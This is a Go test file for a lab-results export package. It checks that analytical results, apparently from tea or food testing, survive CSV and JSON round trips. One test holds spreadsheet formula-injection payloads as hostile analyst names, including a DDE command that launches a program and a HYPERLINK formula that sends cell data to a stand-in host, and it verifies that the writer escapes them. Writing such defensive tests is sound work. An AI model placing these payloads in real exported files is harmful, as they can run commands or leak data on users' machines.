package lab_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/qbench/qbench/benchmark"
	"github.com/qbench/qbench/lab"
)

// roundTrip writes results in the format and reads them back.
func roundTrip(t testing.TB, d *benchmark.Design, format lab.Format, results []benchmark.Result) []benchmark.Result {
	t.Helper()
	var buf bytes.Buffer
	write := map[lab.Format]func(*bytes.Buffer, []benchmark.Result) error{
		lab.CSV:  func(b *bytes.Buffer, r []benchmark.Result) error { return lab.WriteCSV(b, r) },
		lab.JSON: func(b *bytes.Buffer, r []benchmark.Result) error { return lab.WriteJSON(b, r) },
	}[format]
	if err := write(&buf, results); err != nil {
		t.Fatalf("write %s: %v", format, err)
	}
	table, err := lab.Parse(bytes.NewReader(buf.Bytes()), format)
	if err != nil {
		t.Fatalf("Parse(%s) of\n%s\n: %v", format, buf.Bytes(), err)
	}
	back, err := lab.Check(d, table, lab.CheckOptions{})
	if err != nil {
		t.Fatalf("Check(%s) of\n%s\n: %v", format, buf.Bytes(), err)
	}
	return back
}

// exportedResults covers every kind of result: detected with and without a
// lod, ND with the indicator's LOD and with its own, <x, odd analysts.
const exportedResults = header + `
YA-01,alkalinity,2.150,%,GB/T 8309-2013,SCTQ,,2,2016-06-03,"Zhao, Q."
BZ-01,water_extract,41.20,%,GB/T 8305-2013,SCTQ,,1,2016-06-01,"Li ""Jr"""
BZ-01,bifenthrin,ND,mg/kg,GB 23200.113-2018,SCTQ,,1,2016-06-02,Wang
BZ-02,bifenthrin,nd,mg/kg,GB 23200.113-2018,SCTQ,0.0050,1,,
BZ-02,water_extract,ND,%,GB/T 8305-2013,SCTQ,0.00001,1,,"two
lines"
YA-01,alkalinity,1e0,%,GB/T 8309-2013,SCTQ,,1,2016-06-03,王五
MS-01,bifenthrin,<0.01,mg/kg,GB 23200.113-2018,SCTQ,0.010,1,,
MS-02,bifenthrin,0.3,mg/kg,GB 23200.113-2018,SCTQ,0.005,1,,
`

func TestWriteReadRoundTrip(t *testing.T) {
	d := testDesign()
	results := mustCheck(t, lab.CSV, exportedResults)
	for _, format := range []lab.Format{lab.CSV, lab.JSON} {
		t.Run(string(format), func(t *testing.T) {
			assertSameResults(t, roundTrip(t, d, format, results), results)
		})
	}
}

func TestWriteCSV(t *testing.T) {
	results := mustCheck(t, lab.CSV, exportedResults)
	var buf bytes.Buffer
	if err := lab.WriteCSV(&buf, results); err != nil {
		t.Fatal(err)
	}
	want := header + `
BZ-01,bifenthrin,ND,mg/kg,GB 23200.113-2018,SCTQ,,1,2016-06-02,Wang
BZ-01,water_extract,41.20,%,GB/T 8305-2013,SCTQ,,1,2016-06-01,"Li ""Jr"""
BZ-02,bifenthrin,nd,mg/kg,GB 23200.113-2018,SCTQ,0.005,1,,
BZ-02,water_extract,ND,%,GB/T 8305-2013,SCTQ,0.00001,1,,"two
lines"
MS-01,bifenthrin,<0.01,mg/kg,GB 23200.113-2018,SCTQ,0.01,1,,
MS-02,bifenthrin,0.3,mg/kg,GB 23200.113-2018,SCTQ,0.005,1,,
YA-01,alkalinity,1e0,%,GB/T 8309-2013,SCTQ,,1,2016-06-03,王五
YA-01,alkalinity,2.150,%,GB/T 8309-2013,SCTQ,,2,2016-06-03,"Zhao, Q."
`
	if got := buf.String(); got != want {
		t.Errorf("WriteCSV:\n%s\nwant:\n%s", got, want)
	}
	if results[0].Sample != "YA-01" {
		t.Errorf("WriteCSV reordered the caller's results")
	}
}

func TestWriteJSON(t *testing.T) {
	results := mustCheck(t, lab.CSV, csvFile(header,
		"MS-01,bifenthrin,<0.01,mg/kg,GB 23200.113-2018,SCTQ,,1,,",
		"BZ-01,water_extract,41.20,%,GB/T 8305-2013,SCTQ,,1,2016-06-01,Li"))
	var buf bytes.Buffer
	if err := lab.WriteJSON(&buf, results); err != nil {
		t.Fatal(err)
	}
	want := `{"results":[` +
		`{"sample":"BZ-01","indicator":"water_extract","replicate":1,"value":"41.20","unit":"%","method":"GB/T 8305-2013","lab":"SCTQ","tested_on":"2016-06-01","analyst":"Li"},` +
		`{"sample":"MS-01","indicator":"bifenthrin","replicate":1,"value":"<0.01","lod":0.01,"unit":"mg/kg","method":"GB 23200.113-2018","lab":"SCTQ"}` +
		"]}\n"
	if got := buf.String(); got != want {
		t.Errorf("WriteJSON:\n%s\nwant:\n%s", got, want)
	}

	buf.Reset()
	if err := lab.WriteJSON(&buf, nil); err != nil || strings.TrimSpace(buf.String()) != `{"results":[]}` {
		t.Errorf("WriteJSON(nil) = %q, %v", buf.String(), err)
	}
}

// TestCSVExportNeutralisesFormulas exports hostile analyst names: each
// must reach the spreadsheet as text (a leading apostrophe) and read back
// unchanged; numbers stay numbers.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		`=cmd|' /C calc'!A0`, "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", `=HYPERLINK("http://x.test/?"&A1,"click")`,
		"-2+3", "'=already escaped", "''@twice", "'plain apostrophe", "=", "-", "Li",
	}
	var results []benchmark.Result
	for i, name := range hostile {
		results = append(results, benchmark.Result{
			Sample: "BZ-01", Indicator: "water_extract", Replicate: i + 1, Reported: "-3.81", Value: new(-3.81),
			Unit: "%", Method: "GB/T 8305-2013", Lab: "SCTQ", Analyst: name,
		})
	}
	var buf bytes.Buffer
	if err := lab.WriteCSV(&buf, results); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, record := range records[1:] {
		if record[2] != "-3.81" {
			t.Errorf("value %q: a number must not be escaped", record[2])
		}
		switch analyst := record[9]; {
		case analyst == "Li", analyst == "'plain apostrophe":
		case !strings.HasPrefix(analyst, "'"):
			t.Errorf("analyst %q reaches the spreadsheet as a formula", analyst)
		}
	}
	back := mustCheck(t, lab.CSV, buf.String())
	assertSameResults(t, back, results)
}
